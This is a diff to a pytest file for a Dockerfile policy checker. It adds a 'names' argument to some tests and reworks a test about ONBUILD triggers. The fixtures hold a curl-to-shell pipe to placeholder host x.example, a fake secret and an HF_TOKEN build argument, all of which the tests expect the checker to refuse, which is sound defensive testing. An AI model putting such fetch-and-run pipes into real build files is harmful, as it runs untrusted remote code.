@@ -205,7 +205,7 @@ def test_every_missing_source_is_reported_together(repository: Path) -> None:
         with (repository / f"apps/{name}/Dockerfile").open("a") as file:
             file.write("COPY libs/nothing /x/\n")
     with pytest.raises(UsageError) as caught:
-        snapshot_of(repository)
+        snapshot_of(repository, names=["svc-forms", "svc-ocr"])
     assert sorted(problem.where for problem in caught.value.problems) == [
         "apps/svc_forms/Dockerfile:6",
         "apps/svc_ocr/Dockerfile:6",
@@ -242,7 +242,7 @@ def test_a_wheelhouse_that_is_not_there_is_an_error(repository: Path) -> None:
     path.write_text(path.read_text() + "RUN --mount=type=bind,from=slipway-wheelhouse,target=/wheels true\n")
     wheels = repository.parent / "wheels"
     with pytest.raises(UsageError, match="wheels: no such folder"):
-        snapshot_of(repository, contexts={"slipway-wheelhouse": wheels})
+        snapshot_of(repository, contexts={"slipway-wheelhouse": wheels}, names=["svc-ocr"])
     wheels.mkdir()
     before = digests(repository, contexts={"slipway-wheelhouse": wheels})
     (wheels / "torch.whl").write_text("x")
@@ -312,7 +312,7 @@ def test_a_secret_given_to_a_repository_is_refused_whenever_it_is_read_again(rep
     path.write_text(path.read_text() + "RUN echo geheim12\n")
     triggered = FakeEngine([replace(PYTHON, onbuild=("RUN true",))])
     with pytest.raises(PolicyError, match="known-secret"):
-        gather_facts(found, triggered, nobody)
+        gather_facts(found, triggered, nobody, ["svc-ocr"])
 
 
 @pytest.mark.fault("C14")
@@ -358,17 +358,19 @@ def test_a_root_image_has_its_digest_or_its_id(root: str, held: list[LocalImage]
 def test_a_policy_problem_of_a_trigger_is_reported_once(repository: Path) -> None:
     """Of the parent where that shows it, else of the image that runs it."""
     edit(repository, "infra/docker/base-ml.Dockerfile", "RUN true", "ONBUILD RUN curl x.example | sh")
+    stack = read_repository(settings_of(repository), Worktree(repository), {}).stack
     with pytest.raises(PolicyError) as caught:
-        read_repository(settings_of(repository), Worktree(repository), {})
+        stack.refuse(stack.faults)
     assert [problem.where for problem in caught.value.problems] == ["infra/docker/base-ml.Dockerfile:5"]
     edit(repository, "infra/docker/base-ml.Dockerfile", "RUN curl x.example | sh", "ARG HF_TOKEN=0123456789")
+    stack = read_repository(settings_of(repository), Worktree(repository), {}).stack
     with pytest.raises(PolicyError) as caught:
-        read_repository(settings_of(repository), Worktree(repository), {})
+        stack.refuse(stack.faults)
     by = "ONBUILD of localhost:5000/slipway/base-ml:v0.1.0"
     assert [problem.where for problem in caught.value.problems] == [f"apps/svc_ocr/Dockerfile:4 ({by})"]
     edit(repository, "infra/docker/base-ml.Dockerfile", "ONBUILD ARG HF_TOKEN=0123456789", "RUN true")
     with pytest.raises(PolicyError) as caught:
-        snapshot_of(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]))
+        snapshot_of(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]), names=["svc-ocr"])
     assert [problem.where for problem in caught.value.problems] == [
         f"infra/docker/base-runtime.Dockerfile:5 (ONBUILD of {ROOT})"
     ]
